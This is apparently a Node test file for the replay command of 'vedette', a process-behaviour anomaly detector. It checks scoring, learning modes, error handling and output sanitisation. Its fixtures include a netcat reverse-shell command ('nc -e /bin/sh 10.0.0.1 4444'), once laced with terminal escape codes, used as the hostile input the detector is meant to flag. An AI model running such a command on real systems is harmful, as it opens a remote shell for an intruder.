import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { VedetteError } from '@vedette/core';
import { z } from 'zod';

import { openSurroundings } from '../testing/open-surroundings.ts';
import { replay, type ReplayOptions } from './replay.ts';

/** One line of `replay --json`, as DESIGN.md promises it. */
const Line = z.object({
  t: z.number(),
  workload: z.string(),
  score: z.number().min(0).max(1),
  p: z.number().min(0).max(1),
  state: z.enum(['learning', 'watching']),
  reasons: z.array(z.object({ code: z.string(), contribution: z.number(), text: z.string() })),
  nearest: z.object({ argv: z.array(z.string()), distance: z.number() }).nullable(),
});

let folder = '';
before(() => {
  folder = mkdtempSync(join(tmpdir(), 'vedette-replay-'));
});
after(() => rmSync(folder, { recursive: true }));

function event(command: string, t: number): string {
  const argv = command.split(' ');
  const [comm = ''] = argv;
  const where = { t, host: 'web-1', workload: 'web', pid: 2, ppid: 1, uid: 0, parent: 'bash' };
  return JSON.stringify({ ...where, comm, exe: `/usr/bin/${comm}`, argv });
}

function write(name: string, lines: readonly string[]): string {
  writeFileSync(join(folder, name), `${lines.join('\n')}\n`);
  return name;
}

async function run(
  file: string,
  options: ReplayOptions,
): Promise<{ exitCode: number; lines: z.infer<typeof Line>[]; stdout: string; stderr: string }> {
  const clock = { epochMs: () => 0, monotonicMs: () => 0 };
  const { here, stdout, stderr } = openSurroundings({}, { cwd: folder, clock });
  const exitCode = await replay(here, file, options);
  const json = options.json === true ? stdout().trimEnd().split('\n') : [];
  const lines = json.map((line) => Line.parse(JSON.parse(line)));
  return { exitCode, lines, stdout: stdout(), stderr: stderr() };
}

describe('vedette replay', () => {
  const ordinary = Array.from({ length: 50 }, (_, at) => event('ls -l /srv/app', at));

  test('gives one line for each event, in order, and learns only from --learn', async () => {
    const learn = write('past.jsonl', ordinary);
    const file = write('new.jsonl', [
      event('ls -l /srv/app', 100),
      event('nc -e /bin/sh 10.0.0.1 4444', 101),
      event('nc -e /bin/sh 10.0.0.1 4444', 102),
    ]);
    const { exitCode, lines } = await run(file, { learn, json: true });
    assert.deepEqual(
      lines.map(({ t, state }) => [t, state]),
      [
        [100, 'watching'],
        [101, 'watching'],
        [102, 'watching'],
      ],
    );
    assert.equal(lines[0]?.score, 0);
    assert.ok((lines[1]?.score ?? 0) > 0.8);
    assert.equal(lines[2]?.score, lines[1]?.score);
    assert.equal(exitCode, 1);
  });

  test('learns from the file itself with --online', async () => {
    const file = write('alone.jsonl', ordinary);
    const { lines, exitCode } = await run(file, { online: true, json: true });
    assert.ok((lines.at(-1)?.score ?? 1) < 0.01);
    assert.ok((lines[0]?.score ?? 0) > (lines[1]?.score ?? 1));
    assert.equal(exitCode, 0);
  });

  test('goes on after a bad line, says where it is, and is incomplete', async () => {
    const learn = write('past.jsonl', ordinary);
    const file = write('bad.jsonl', [
      event('ls -l /srv/app', 1),
      '{"t":',
      event('ls -l /srv/app', 2),
    ]);
    const { exitCode, lines, stderr } = await run(file, { learn, json: true });
    assert.equal(lines.length, 2);
    assert.match(stderr, /bad\.jsonl:2: /);
    assert.equal(exitCode, 3);
  });

  test('shows a person only what is worth a look, without control characters', async () => {
    const learn = write('past.jsonl', ordinary);
    const file = write('hostile.jsonl', [event('nc\u001b[2J -e /bin/sh 10.0.0.1 4444', 1)]);
    const { stdout } = await run(file, { learn });
    assert.match(stdout, /^0\.[89]\d {2}web {2}nc/);
    assert.doesNotMatch(stdout, /\u001b/);
  });

  test('says which file cannot be read', async () => {
    await assert.rejects(run('missing.jsonl', {}), VedetteError);
  });
});
